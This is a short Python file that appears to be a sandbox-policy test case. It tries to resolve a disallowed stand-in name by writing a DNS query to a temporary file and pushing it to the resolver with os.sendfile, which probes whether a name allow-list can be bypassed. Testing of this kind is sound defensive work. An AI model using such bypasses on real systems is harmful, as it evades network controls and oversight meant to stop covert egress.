"""A question by sendfile
Sends the packet from a file through a connected socket.
policy: allowed-names
audit: dnsQuery
since: 3.6
proof: arrival
"""
import os


def attack(at):
    path = '/tmp/question'
    with open(path, 'wb') as question:
        question.write(at.query(at.evil()))
    asker = at.udp()
    asker.connect((at.RESOLVER, 53))
    os.sendfile(asker.fileno(), os.open(path, os.O_RDONLY), 0, 500)
    return b'evil' in asker.recv(500)
